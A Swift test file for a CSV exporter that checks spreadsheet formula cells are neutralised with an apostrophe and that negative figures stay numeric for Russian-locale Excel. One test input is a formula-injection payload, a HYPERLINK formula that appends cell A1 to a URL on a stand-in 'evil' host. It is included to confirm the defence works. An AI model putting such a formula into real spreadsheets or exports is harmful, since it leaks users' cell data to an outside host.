import Domain
import Foundation
import Testing
@testable import Importing

/// CSV exports open in Excel: text must never run as a formula, and figures must
/// stay numbers Russian Excel can sum (ASCII minus, decimal comma).
@Suite struct CSVExportTests {
    func line(_ row: [String]) -> String {
        String(decoding: CSVWriter.write([row], bom: false), as: UTF8.self)
    }

    @Test func formulaCellsGetAnApostrophe() {
        #expect(line([#"=HYPERLINK("http://evil/?"&A1;"Открыть")"#]) == #""'=HYPERLINK(""http://evil/?""&A1;""Открыть"")""# + "\r\n")
        #expect(line(["+7 918 123-45-67", "@SUM(A1:A9)", "-2+3", "-", "\tTAB", "=1"])
            == "'+7 918 123-45-67;'@SUM(A1:A9);'-2+3;'-;'\tTAB;'=1\r\n")
        #expect(line(["\r=1"]) == "\"'\r=1\"\r\n")
        // Ordinary text, a Unicode minus before a word, and an apostrophe elsewhere are left alone.
        #expect(line(["МБОУ «СОШ № 6»", "−нет", "l'école", "8 (86137) 3-12-45"]) == "МБОУ «СОШ № 6»;−нет;l'école;8 (86137) 3-12-45\r\n")
    }

    @Test func negativeNumbersStayNumbers() {
        #expect(line(["-3", "-0,008", "−0,008", "-0.008", "−1\u{2009}234,5", "−0,000"])
            == "-3;-0,008;-0,008;-0,008;-1234,5;-0,000\r\n")
        // Positive numbers are not formulas and are written as given.
        #expect(line(["12,5", "0,008", "1\u{2009}234"]) == "12,5;0,008;1\u{2009}234\r\n")
        // Not plain numbers: treated as formula text.
        #expect(line(["-1,2,3", "- 3", "-1\u{2009}23", "-5%", "-1e5"]) == "'-1,2,3;'- 3;'-1\u{2009}23;'-5%;'-1e5\r\n")
    }

    @Test func neutralisedCellsReadBackAsWritten() throws {
        let rows = [["=A1", "+7 918 123-45-67", "@x", "-abc", "\tx", "'обычный", "'-3"], ["-3", "−0,008", "текст"]]
        let read = CSVReader.read(try TextDecoding.decode(CSVWriter.write(rows)), separator: ";")
        #expect(read == [["=A1", "+7 918 123-45-67", "@x", "-abc", "\tx", "'обычный", "-3"], ["-3", "-0,008", "текст"]])
    }

    @Test func exportCellsKeepThePageTextAndBecomeNumbersInCSV() {
        let row: [ExportCell] = [.text("=школа"), .figure(Rational(-8, 1000), places: 3), .count(12), .formatted("85,3"),
                                 .formatted("−1\u{2009}234"), .figure(nil, places: 3), .formatted("нет")]
        #expect(row.map(\.text) == ["=школа", "−0,008", "12", "85,3", "−1\u{2009}234", "", "нет"])
        let csv = String(decoding: CSVWriter.write(export: [row], bom: false), as: UTF8.self)
        #expect(csv == "'=школа;-0,008;12;85,3;-1234;;нет\r\n")
    }
}
